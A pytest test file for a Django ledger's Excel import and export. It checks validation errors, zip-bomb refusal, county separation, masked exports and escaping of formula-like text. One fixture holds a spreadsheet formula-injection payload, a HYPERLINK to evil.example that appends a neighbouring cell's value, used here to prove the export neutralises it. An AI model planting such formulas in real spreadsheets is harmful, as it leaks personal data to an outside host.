"""The ledger's Excel import and export (ledger/excel.py) on real .xlsx files.

The import is all or nothing: a file with any bad row writes nothing and names each bad row's
number and column in Chinese. Everything the export writes, the import reads back as is.
"""

import datetime
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Role
from fanjiaxiang import uploads
from fanjiaxiang.exporters import write_xlsx
from ledger import excel
from ledger.exporters import LedgerExporter
from ledger.models import Entry
from tests.factories import staff
from tests.ledger.xlsx_files import (
    entry,
    export_ledger_file,
    id_number,
    ledger_state,
    ledger_workbook,
    person,
    phone,
    read_sheet,
    with_padded_sheet,
    with_understated_sheet,
    write_ledger_file,
    xlsx_bytes,
)

MiB = 1024 * 1024

# openpyxl warns that the export's minimal styles sheet has no "default style"; Excel doesn't.
no_style_warning = pytest.mark.filterwarnings("ignore:Workbook contains no default style")


@pytest.fixture
def known(gd):
    """Two people already in 越秀区's ledger: one with an ID number, one known only by phone."""
    return [entry(gd.yuexiu, 90), entry(gd.yuexiu, 91, id_number="")]


def refused(path, *, county) -> list[str]:
    """Import `path`, which must be refused without writing anything; its messages."""
    before = ledger_state()
    checked = excel.import_file(path, county=county)
    assert not checked.ok
    assert checked.rows == []
    assert ledger_state() == before
    return [str(error) for error in checked.errors]


def imported(path, *, county) -> excel.Checked:
    checked = excel.import_file(path, county=county)
    assert checked.ok, [str(error) for error in checked.errors]
    return checked


def values(entry: Entry) -> dict:
    return {
        "name": entry.name,
        "id_number": entry.id_number,
        "phone": entry.phone,
        "email": entry.email,
        "wechat": entry.wechat,
        "university": entry.university,
        "major": entry.major,
        "degree": entry.degree,
        "graduation_year": entry.graduation_year,
        "source": entry.source,
        "intention": entry.intention,
        "tags": entry.tags,
        "notes": entry.notes,
        "last_contact": entry.last_contact,
        "county": entry.county.code,
    }


# The file as a whole -------------------------------------------------------------------------


def test_a_misspelt_header_is_refused_naming_the_unknown_and_the_missing_column(
    gd, known, tmp_path
):
    header = excel.headers()
    header[3] = "电话"  # 手机号
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1)], header=header)

    assert refused(path, county=gd.yuexiu) == [
        "文件：第 1 行有无法识别的列「电话」，请使用下载的模板。",
        "文件：缺少列：手机号。请使用下载的模板，表头在第 1 行。",
    ]


def test_a_file_missing_columns_is_refused_naming_every_missing_one(gd, known, tmp_path):
    header = [h for h in excel.headers() if h not in ("身份证号", "最近联系日期")]
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1)], header=header)

    assert refused(path, county=gd.yuexiu) == [
        "文件：缺少列：身份证号、最近联系日期。请使用下载的模板，表头在第 1 行。"
    ]


def test_an_unknown_extra_column_is_refused_naming_it(gd, known, tmp_path):
    path = write_ledger_file(
        tmp_path / "台账.xlsx", [person(1, 籍贯="广州")], header=[*excel.headers(), "籍贯"]
    )

    assert refused(path, county=gd.yuexiu) == [
        "文件：第 1 行有无法识别的列「籍贯」，请使用下载的模板。"
    ]


def test_a_column_given_twice_is_refused(gd, known, tmp_path):
    path = write_ledger_file(
        tmp_path / "台账.xlsx", [person(1)], header=[*excel.headers(), "手机号"]
    )

    assert refused(path, county=gd.yuexiu) == ["文件：列「手机号」出现了两次。"]


def test_the_county_code_column_may_be_left_out_only_when_importing_into_one_county(gd, tmp_path):
    header = excel.headers()[1:]
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1)], header=header)

    assert refused(path, county=None) == [
        "文件：缺少列：县区代码。请使用下载的模板，表头在第 1 行。"
    ]
    assert imported(path, county=gd.yuexiu).created == 1
    assert Entry.objects.get().county == gd.yuexiu


def test_merged_cells_are_refused_naming_the_range(gd, known, tmp_path):
    workbook = ledger_workbook([person(1), person(2)])
    workbook.active.merge_cells("N2:N3")  # one 备注 for two people
    workbook.save(tmp_path / "台账.xlsx")

    assert refused(tmp_path / "台账.xlsx", county=gd.yuexiu) == [
        "文件：文件中有合并单元格（N2:N3），请取消合并、每行填写完整后再导入。"
    ]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("台账.xlsx", "姓名\t手机号\n张三\t13800138000\n".encode(), "文件扩展名与内容不符。"),
        (
            "台账.csv",
            "姓名,手机号\n张三,13800138000\n".encode(),
            "文件类型不符：只接受 Excel 文件（.xlsx）。",
        ),
        ("台账.xlsx", "姓名,手机号\n张三,13800138000\n".encode("gbk"), "文件扩展名与内容不符。"),
        ("台账.xlsx", b"PK\x03\x04 not really a zip", "文件已损坏，无法读取。"),
    ],
    ids=["text-renamed-xlsx", "csv", "csv-renamed-xlsx", "broken-zip"],
)
def test_a_file_that_is_not_excel_is_refused(gd, known, tmp_path, name, content, message):
    (tmp_path / name).write_bytes(content)

    assert refused(tmp_path / name, county=gd.yuexiu) == [f"文件：{message}"]


def test_an_empty_file_is_refused(gd, known, tmp_path):
    (tmp_path / "台账.xlsx").write_bytes(b"")

    assert refused(tmp_path / "台账.xlsx", county=gd.yuexiu) == ["文件：文件为空。"]


def test_a_file_with_only_the_header_row_is_refused(gd, known, tmp_path):
    path = write_ledger_file(tmp_path / "台账.xlsx", [])

    assert refused(path, county=gd.yuexiu) == [
        "文件：文件里没有数据行（第 1 行是表头，从第 2 行起填写）。"
    ]


def test_the_downloaded_template_left_empty_is_refused_and_filled_in_imports(gd, tmp_path):
    excel.write_template(tmp_path / "模板.xlsx")
    assert refused(tmp_path / "模板.xlsx", county=gd.yuexiu) == [
        "文件：文件里没有数据行（第 1 行是表头，从第 2 行起填写）。"
    ]

    workbook = load_workbook(tmp_path / "模板.xlsx")
    sheet = workbook["联系台账"]
    for column, value in enumerate(person(1).values(), start=1):
        sheet.cell(row=2, column=column, value=value)
    workbook.save(tmp_path / "填好的模板.xlsx")

    assert imported(tmp_path / "填好的模板.xlsx", county=gd.yuexiu).created == 1
    assert Entry.objects.get().id_number == id_number(1)


def test_a_file_over_the_size_limit_is_refused(gd, known, tmp_path, settings):
    settings.UPLOAD_MAX_SIZES = {"spreadsheet": 4 * 1024}
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(n) for n in range(1, 40)])
    assert path.stat().st_size > 4 * 1024

    assert refused(path, county=gd.yuexiu) == ["文件：文件过大：最大 4 KB。"]


def test_a_zip_bomb_is_refused_from_its_directory_before_the_sheet_is_read(
    gd, known, tmp_path, monkeypatch
):
    bomb = with_padded_sheet(xlsx_bytes([person(1)]), padding=2 * MiB)
    assert len(bomb) < 20_000
    (tmp_path / "台账.xlsx").write_bytes(bomb)
    monkeypatch.setattr(uploads, "ZIP_MAX_UNCOMPRESSED_SIZE", 1 * MiB)

    # Only the file-level refusal: no row of the (otherwise valid) sheet was looked at.
    assert refused(tmp_path / "台账.xlsx", county=gd.yuexiu) == [
        "文件：文件解压后过大：最大 1 MB。"
    ]

    monkeypatch.setattr(uploads, "ZIP_MAX_UNCOMPRESSED_SIZE", 4 * MiB)
    assert excel.check_file(tmp_path / "台账.xlsx", county=gd.yuexiu).created == 1


def test_a_zip_bomb_that_understates_its_size_is_refused_without_reading_past_it(
    gd, known, tmp_path
):
    # The directory claims the sheet ends before row 3; really row 3 and 16 MB follow.
    bomb = with_understated_sheet(
        xlsx_bytes([person(1), person(2)]), declared_up_to=b'<row r="3"', padding=16 * MiB
    )
    assert len(bomb) < 200_000
    (tmp_path / "台账.xlsx").write_bytes(bomb)

    assert refused(tmp_path / "台账.xlsx", county=gd.yuexiu) == [
        "文件：无法读取此 Excel 文件，请另存为 .xlsx 后再试。"
    ]


# One bad cell or row -------------------------------------------------------------------------


WRONG_CHECK_DIGIT = id_number(1)[:-1] + ("1" if id_number(1)[-1] == "0" else "0")


@pytest.mark.parametrize(
    "number",
    [
        WRONG_CHECK_DIGIT,
        id_number(1)[:17],
        id_number(1, born="19990231"),  # a correct check digit, but 31 February
        id_number(1, place="999999"),  # no such place
        "身份证丢了",
    ],
    ids=["wrong-check-digit", "17-digits", "impossible-birth-date", "unknown-place", "words"],
)
def test_an_invalid_id_number_is_refused_naming_row_and_column(gd, known, tmp_path, number):
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1), person(2, id_number=number)])

    assert refused(path, county=gd.yuexiu) == [
        f"第 3 行「身份证号」：身份证号无效（请核对 18 位号码及最后一位校验码）：{number}"
    ]


def test_an_id_number_typed_as_a_number_is_refused_with_how_to_fix_it(gd, known, tmp_path):
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1, id_number=int(id_number(1)))])

    assert refused(path, county=gd.yuexiu) == [
        "第 2 行「身份证号」：请把身份证号所在列设为“文本”格式后重新填写（数字格式会丢失末几位）。"
    ]


@pytest.mark.parametrize("bad", ["12345", "1380013800", "138001380001", "13800138000转"])
def test_an_invalid_phone_is_refused_naming_row_and_column(gd, known, tmp_path, bad):
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1), person(2), person(3, phone=bad)])

    assert refused(path, county=gd.yuexiu) == [
        f"第 4 行「手机号」：不是有效的手机号或固定电话：{bad}"
    ]


def test_a_row_with_neither_id_number_nor_phone_is_refused(gd, known, tmp_path):
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1, id_number="", phone=None)])

    assert refused(path, county=gd.yuexiu) == ["第 2 行「手机号」：身份证号和手机号至少填写一项。"]


def test_a_date_typed_as_text_is_refused_naming_row_and_column(gd, known, tmp_path):
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1, last_contact="2026-07-15")])

    assert refused(path, county=gd.yuexiu) == [
        "第 2 行「最近联系日期」：“2026-07-15”是文本，不是日期。请把单元格设为日期格式，如 2026-07-15。"
    ]


def test_a_formula_cell_is_refused_naming_row_and_column(gd, known, tmp_path):
    workbook = ledger_workbook([person(1), person(2)])
    workbook.active["D3"] = '=CONCATENATE("138","00000002")'  # 手机号
    workbook.save(tmp_path / "台账.xlsx")

    assert refused(tmp_path / "台账.xlsx", county=gd.yuexiu) == [
        "第 3 行「手机号」：单元格是公式，请复制后“粘贴为数值”再导入。"
    ]


def test_two_rows_with_the_same_id_number_are_refused_as_one_person(gd, known, tmp_path):
    rows = [person(1), person(2), person(3, name="测试一", id_number=id_number(1))]
    path = write_ledger_file(tmp_path / "台账.xlsx", rows)

    assert refused(path, county=gd.yuexiu) == [
        "第 4 行「身份证号」：与第 2 行是同一人（身份证号相同），请合并为一行。"
    ]


def test_two_rows_with_the_same_phone_and_no_id_number_are_refused_as_one_person(
    gd, known, tmp_path
):
    rows = [
        person(1, id_number=""),
        person(2),
        person(3, id_number="", phone=" 138-0000-0001 "),  # the same number, written otherwise
    ]
    path = write_ledger_file(tmp_path / "台账.xlsx", rows)

    assert refused(path, county=gd.yuexiu) == [
        "第 4 行「手机号」：与第 2 行是同一人（手机号相同），请合并为一行。"
    ]


def test_a_row_for_another_county_is_refused_when_importing_into_one_county(gd, known, tmp_path):
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1), person(2, county="440106")])

    assert refused(path, county=gd.yuexiu) == [
        "第 3 行「县区代码」：县区代码 440106 与本次导入的越秀区（440104）不符。"
    ]


@pytest.mark.parametrize("code", ["440100", "999999", "越秀区"])
def test_a_code_that_is_no_county_is_refused_when_rows_name_their_county(gd, known, tmp_path, code):
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1), person(2, county=code)])

    assert refused(path, county=None) == [
        f"第 3 行「县区代码」：不是有效的县级行政区划代码：{code}"
    ]


@pytest.mark.parametrize("year", ["²", "２０２７", "99999999999999999999", "-2027"])
def test_an_odd_graduation_year_is_a_row_error_not_a_crash(gd, known, tmp_path, year):
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1, graduation_year=year)])

    assert refused(path, county=gd.yuexiu) == ["第 2 行「毕业年份」：应为四位年份，如 2027。"]


def test_one_bad_row_among_many_good_ones_writes_nothing_and_names_that_row(gd, known, tmp_path):
    rows = [person(n) for n in range(100, 400)]
    rows[149] = person(249, phone="1380013800")  # sheet row 151
    rows.append(person(90, name="改过的名字"))  # someone already in the ledger, not updated either
    path = write_ledger_file(tmp_path / "台账.xlsx", rows)

    assert refused(path, county=gd.yuexiu) == [
        "第 151 行「手机号」：不是有效的手机号或固定电话：1380013800"
    ]
    assert Entry.objects.get(phone=phone(90)).name == "已登记90"


def test_every_bad_row_is_reported_with_its_excel_row_number_past_blank_rows(gd, known, tmp_path):
    rows = [person(1), {}, {}, person(4, phone="12345"), person(5, email="不是邮箱", degree="大专")]
    path = write_ledger_file(tmp_path / "台账.xlsx", rows)

    assert refused(path, county=gd.yuexiu) == [
        "第 5 行「手机号」：不是有效的手机号或固定电话：12345",
        "第 6 行「电子邮箱」：电子邮箱格式不正确：不是邮箱",
        "第 6 行「学历」：“大专”不是可选值，应为：专科、本科、硕士研究生、博士研究生",
    ]


# Writing ------------------------------------------------------------------------------------


def test_a_valid_file_creates_one_entry_per_row_with_every_field(gd, known, tmp_path):
    rows = [
        person(
            1, tags="师范, 考公意向；学生干部", source="中学毕业生群/校友群", degree="硕士研究生"
        ),
        person(2, id_number="", phone=13800000002, graduation_year=None, last_contact=None),
        person(3, id_number=id_number(18).lower(), degree=None, source=None, intention=None),
    ]
    path = write_ledger_file(tmp_path / "台账.xlsx", rows)

    checked = imported(path, county=gd.yuexiu)

    assert (checked.created, checked.updated) == (3, 0)
    assert Entry.objects.count() == 5
    first = Entry.objects.get(name="测试1")
    assert values(first) == {
        "name": "测试1",
        "id_number": id_number(1),
        "phone": "13800000001",
        "email": "p1@example.edu.cn",
        "wechat": "wx_1",
        "university": "中山大学",
        "major": "汉语言文学",
        "degree": "master",
        "graduation_year": 2027,
        "source": "alumni",
        "intention": "yes",
        "tags": "师范、考公意向、学生干部",
        "notes": "暑期在图书馆实践",
        "last_contact": datetime.date(2026, 7, 15),
        "county": "440104",
    }
    assert first.id_number_masked == id_number(1)[:4] + "**********" + id_number(1)[-4:]
    second = Entry.objects.get(name="测试2")
    assert (second.id_number, second.phone, second.graduation_year) == (None, "13800000002", None)
    third = Entry.objects.get(name="测试3")
    assert third.id_number == id_number(18)  # the lower-case x of 18's check digit, upper-cased
    assert id_number(18).endswith("X")
    assert (third.degree, third.source, third.intention) == ("", "other", "undecided")


def test_a_file_saved_before_the_source_was_renamed_still_imports_its_返家乡参与(
    gd, known, tmp_path
):
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1, source="返家乡参与")])

    checked = imported(path, county=gd.yuexiu)

    assert checked.created == 1
    assert Entry.objects.get(name="测试1").get_source_display() == "参与返家乡实践"


def test_a_wrong_source_is_told_the_current_choices_only(gd, known, tmp_path):
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1, source="问卷")])

    [reason] = refused(path, county=gd.yuexiu)

    assert reason.startswith("第 2 行「联系渠道」：“问卷”不是可选值，应为：参与返家乡实践、")
    assert "返家乡参与" not in reason


def test_importing_the_same_file_again_adds_and_changes_no_one(gd, known, tmp_path):
    rows = [person(n) for n in range(1, 21)] + [person(21, id_number=""), person(90)]
    path = write_ledger_file(tmp_path / "台账.xlsx", rows)
    first = imported(path, county=gd.yuexiu)
    assert (first.created, first.updated, first.changed) == (21, 1, 1)
    before = ledger_state()

    again = imported(path, county=gd.yuexiu)

    assert (again.created, again.updated, again.changed) == (0, 22, 0)
    assert ledger_state() == before


def test_a_blank_cell_keeps_what_the_ledger_holds_and_tags_add_up(gd, known, tmp_path):
    row = {"name": "已登记90", "id_number": id_number(90), "tags": "考公意向、已联系"}
    path = write_ledger_file(tmp_path / "台账.xlsx", [row])

    checked = imported(path, county=gd.yuexiu)

    assert (checked.created, checked.changed) == (0, 1)
    updated = Entry.objects.get(pk=known[0].pk)
    assert (updated.phone, updated.university, updated.graduation_year) == (
        phone(90),
        "华南师范大学",
        2026,
    )
    assert updated.tags == "已联系、考公意向"


def test_columns_may_come_in_any_order(gd, tmp_path):
    header = list(reversed(excel.headers()))
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1)], header=header)

    imported(path, county=gd.yuexiu)

    assert values(Entry.objects.get()) == values_of_row(person(1))


def values_of_row(row: dict) -> dict:
    return {
        **row,
        "degree": "bachelor",
        "source": "participation",
        "intention": "yes",
        "id_number": row["id_number"] or None,
    }


def test_a_person_known_only_by_phone_gets_their_id_number_from_a_later_file(gd, known, tmp_path):
    phone_only = known[1]
    path = write_ledger_file(
        tmp_path / "台账.xlsx", [person(91, name="已登记91", id_number=id_number(91))]
    )

    checked = imported(path, county=gd.yuexiu)

    assert (checked.created, checked.updated) == (0, 1)
    assert Entry.objects.filter(county=gd.yuexiu, phone=phone(91)).count() == 1
    entry = Entry.objects.get(pk=phone_only.pk)
    assert entry.id_number == id_number(91)
    assert entry.id_number_masked == id_number(91)[:4] + "**********" + id_number(91)[-4:]
    # From now on the ID number finds them, even with a new phone.
    path = write_ledger_file(tmp_path / "新号.xlsx", [person(91, phone="13912345678")])
    assert imported(path, county=gd.yuexiu).created == 0
    assert Entry.objects.get(pk=phone_only.pk).phone == "13912345678"


def test_a_phone_shared_by_two_people_is_refused_without_an_id_number(gd, tmp_path):
    family_phone = "13800138000"
    entry(gd.yuexiu, 1, phone=family_phone)
    entry(gd.yuexiu, 2, phone=family_phone)
    path = write_ledger_file(
        tmp_path / "台账.xlsx", [person(3), person(4, id_number="", phone=family_phone)]
    )

    assert refused(path, county=gd.yuexiu) == [
        "第 3 行「手机号」：台账中有多人使用此手机号，请填写身份证号以区分。"
    ]
    # With the ID number the row finds its person.
    path = write_ledger_file(
        tmp_path / "台账.xlsx", [person(2, id_number=id_number(2), phone=family_phone)]
    )
    assert imported(path, county=gd.yuexiu).updated == 1


def test_rows_go_to_the_county_their_code_names_when_no_county_is_given(gd, tmp_path):
    rows = [
        person(1),
        person(2, county="440106"),
        person(3, county=440106),  # typed as a number
        person(4, county="441403"),
    ]
    path = write_ledger_file(tmp_path / "台账.xlsx", rows)

    imported(path, county=None)

    counties = dict(Entry.objects.values_list("name", "county__code"))
    assert counties == {
        "测试1": "440104",
        "测试2": "440106",
        "测试3": "440106",
        "测试4": "441403",
    }


def test_one_countys_import_never_touches_another_countys_entry_with_the_same_id_number(
    gd, tmp_path
):
    tianhe = entry(gd.tianhe, 1, name="天河的记录", phone=phone(1))
    tianhe_before = ledger_state()
    path = write_ledger_file(tmp_path / "台账.xlsx", [person(1, name="越秀的记录")])

    checked = imported(path, county=gd.yuexiu)

    assert checked.created == 1
    assert ledger_state()[0] == tianhe_before[0]
    ours = Entry.objects.get(county=gd.yuexiu)
    assert (ours.name, ours.id_number) == ("越秀的记录", id_number(1))
    assert Entry.objects.get(pk=tianhe.pk).name == "天河的记录"
    # And the other way round, by county code.
    path = write_ledger_file(
        tmp_path / "天河.xlsx", [person(1, county="440106", name="天河改名", tags="天河")]
    )
    imported(path, county=None)
    assert Entry.objects.get(pk=ours.pk).name == "越秀的记录"
    assert Entry.objects.get(pk=tianhe.pk).name == "天河改名"


def test_a_file_naming_one_phone_with_and_without_id_number_is_decided_the_same_way_twice(
    gd, tmp_path
):
    rows = [person(1), person(2, name="测试1", id_number="", phone=phone(1))]
    path = write_ledger_file(tmp_path / "台账.xlsx", rows)

    first = excel.import_file(path, county=gd.yuexiu)
    count = Entry.objects.count()
    again = excel.import_file(path, county=gd.yuexiu)

    assert again.ok == first.ok, [str(error) for error in again.errors]
    assert again.created == 0
    assert Entry.objects.count() == count
    # Decided: without an ID number the phone is who the row is, so the file names one phone twice.
    assert not first.ok
    assert "手机号与第 2 行相同" in str(first.errors[0]) and first.errors[0].row == 3


# Export --------------------------------------------------------------------------------------


@pytest.fixture
def varied(gd):
    """Entries with every kind of value the ledger holds, in two counties."""
    return [
        entry(
            gd.yuexiu,
            1,
            name="欧阳 晓",
            email="xiao@example.edu.cn",
            wechat="0012345",
            university="中山大学",
            major="临床医学（八年制）",
            degree="doctor",
            graduation_year=2030,
            source="alumni",
            intention="no",
            tags="师范、考公意向、学生干部",
            notes="第一行\n第二行 & <备注> “引号”",
            last_contact=datetime.date(2026, 2, 28),
        ),
        entry(gd.yuexiu, 2, id_number="", phone="02083331234", tags="", graduation_year=None),
        entry(gd.yuexiu, 18, source="partnership", intention="yes", degree="junior"),
        entry(
            gd.tianhe,
            1,
            id_number=id_number(1, place="440106"),
            last_contact=datetime.date(1999, 12, 31),
        ),
    ]


@no_style_warning
def test_the_export_has_the_import_headers_chinese_labels_and_real_dates(gd, varied, tmp_path):
    count = export_ledger_file(tmp_path / "导出.xlsx", county=gd.yuexiu)

    assert count == 3
    sheet = read_sheet(tmp_path / "导出.xlsx")
    assert sheet[0] == excel.headers()
    assert sheet[1] == [
        "440104",
        "欧阳 晓",
        id_number(1),
        phone(1),
        "xiao@example.edu.cn",
        "0012345",
        "中山大学",
        "临床医学（八年制）",
        "博士研究生",
        2030,
        "中学毕业生群/校友群",
        "暂无意向",
        "师范、考公意向、学生干部",
        "第一行\n第二行 & <备注> “引号”",
        datetime.datetime(2026, 2, 28),
    ]
    assert sheet[2][2:4] == [None, "02083331234"]
    assert sheet[3][2].endswith("X")


def test_an_export_imports_back_as_is(gd, varied, tmp_path):
    export_ledger_file(tmp_path / "导出.xlsx")
    before = [values(entry) for entry in Entry.objects.select_related("county").order_by("pk")]

    again = imported(tmp_path / "导出.xlsx", county=None)
    assert (again.created, again.updated, again.changed) == (0, 4, 0)

    Entry.objects.all().delete()
    restored = imported(tmp_path / "导出.xlsx", county=None)
    assert restored.created == 4
    after = [values(entry) for entry in Entry.objects.select_related("county").order_by("pk")]
    assert after == before


FORMULA_LIKE = {
    "name": "@x",
    "wechat": "+8613800138000",
    "university": "-中山大学",
    "major": "=1+1",
    "tags": "=SUM(A1)、@标签",
    "notes": '=HYPERLINK("http://evil.example/?d="&C2,"点我")',
}


@no_style_warning
def test_text_starting_with_formula_characters_is_exported_as_text_and_imports_unchanged(
    gd, tmp_path
):
    entry(gd.yuexiu, 1, **FORMULA_LIKE)
    export_ledger_file(tmp_path / "导出.xlsx")

    sheet = load_workbook(tmp_path / "导出.xlsx").worksheets[0]
    cells = {sheet.cell(row=1, column=c).value: sheet.cell(row=2, column=c) for c in range(1, 16)}
    for name, text in FORMULA_LIKE.items():
        cell = cells[str(dict(excel.COLUMNS)[name])]
        assert (cell.data_type, cell.value) == ("s", text)
    with zipfile.ZipFile(tmp_path / "导出.xlsx") as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")

    Entry.objects.all().delete()
    imported(tmp_path / "导出.xlsx", county=gd.yuexiu)
    restored = Entry.objects.get()
    assert {name: getattr(restored, name) for name in FORMULA_LIKE} == FORMULA_LIKE


@no_style_warning
def test_a_masked_export_shows_only_masked_id_numbers_and_phones(gd, varied, tmp_path):
    city_staff = staff(Role.CITY, region=gd.guangzhou)  # reads the ledger masked
    exporter = LedgerExporter(city_staff, query={"county": "440104"})
    write_xlsx(exporter, tmp_path / "导出.xlsx")

    sheet = read_sheet(tmp_path / "导出.xlsx")
    assert [row[2:4] for row in sheet[1:]] == [
        [id_number(1)[:4] + "**********" + id_number(1)[-4:], "138****0001"],
        [None, "020****1234"],
        [id_number(18)[:4] + "**********" + id_number(18)[-4:], "138****0018"],
    ]
    with zipfile.ZipFile(tmp_path / "导出.xlsx") as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    for number in (id_number(1), id_number(18), phone(1), "02083331234", phone(18)):
        assert number not in xml


def entry_from_the_form(client, user, **fields) -> Entry:
    """An entry registered through the ledger's own web form, as county staff do."""
    client.force_login(user)
    data = {"name": "甲", "phone": "13800138000", "source": "other", "intention": "undecided"}
    response = client.post(reverse("ledger:entry_create"), {**data, **fields})
    assert response.status_code == 302, response.content.decode()[:2000]
    return Entry.objects.get()


def test_tags_typed_in_the_web_form_survive_an_export_and_import(gd, client, tmp_path):
    saved = entry_from_the_form(
        client, staff(Role.COUNTY, region=gd.yuexiu), tags="考公 意向，乡村振兴;文旅"
    )
    export_ledger_file(tmp_path / "导出.xlsx")

    checked = imported(tmp_path / "导出.xlsx", county=gd.yuexiu)

    assert Entry.objects.get().tags == saved.tags
    assert checked.changed == 0


def test_notes_typed_in_the_web_form_survive_an_export_and_import(gd, client, tmp_path):
    saved = entry_from_the_form(
        client, staff(Role.COUNTY, region=gd.yuexiu), notes="第一行\r\n第二行"
    )
    assert saved.notes == "第一行\n第二行"  # the browser's CRLF is stored as a line feed
    export_ledger_file(tmp_path / "导出.xlsx")

    checked = imported(tmp_path / "导出.xlsx", county=gd.yuexiu)

    assert Entry.objects.get().notes == saved.notes
    assert checked.changed == 0
